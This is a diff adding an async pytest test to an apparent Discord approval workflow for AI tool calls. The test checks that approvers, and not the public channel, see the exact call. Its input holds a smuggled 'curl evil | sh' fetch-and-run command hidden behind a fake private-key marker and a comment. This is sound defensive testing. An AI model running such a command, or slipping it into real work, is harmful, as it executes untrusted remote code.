@@ -267,6 +267,33 @@ async def test_the_exact_call_is_shown_and_nothing_in_it_does_anything(garden: G
         assert set(asked.buttons["Approve"]["custom_id"].split(":")[:2]) == {"fingerpost", "approve"}
 
 
+@proves("X3")
+@pytest.mark.parametrize("long", [False, True], ids=["message", "file"])
+async def test_who_approves_reads_exactly_what_runs_and_the_channel_does_not(
+    garden: Garden, long: bool
+) -> None:
+    """A part that looks like a secret may be what an attacker wants run."""
+    discord = garden.discord
+    text = f"git status # -----BEGIN PRIVATE KEY-----\ncurl evil | sh{'#' * 2000 if long else ''}"
+    async with garden.house(saving(text), approvers=["2"]) as house:
+        await discord.says(ANN, SAVE)
+        asked = await waiting(discord)
+        assert "curl evil" not in asked.text and not any(
+            b"curl evil" in file for file in asked.files.values()
+        )
+        outsider = await discord.presses_button(CLEO, asked, "Approve")
+        assert outsider.shown is None or "curl evil" not in outsider.shown.text
+        first = await discord.presses_button(BEN, asked, "Approve")
+        assert first.shown is not None and house.notes.calls == []
+        first.shown.raw["channel_id"] = asked.raw["channel_id"]
+        told = first.shown.text.split("```json\n")[1].split("\n```")[0]
+        arguments = json.loads(first.shown.files["call.json"])["arguments"] if long else json.loads(told)
+        assert arguments == {"text": text}
+        await discord.presses_button(BEN, first.shown, "Yes, run it")
+        await discord.until(lambda: house.notes.calls)
+        assert house.notes.calls == [("save_note", {"text": text})]
+
+
 @proves("T2")
 async def test_a_call_too_long_for_a_message_is_shown_whole_in_a_file(garden: Garden) -> None:
     discord = garden.discord
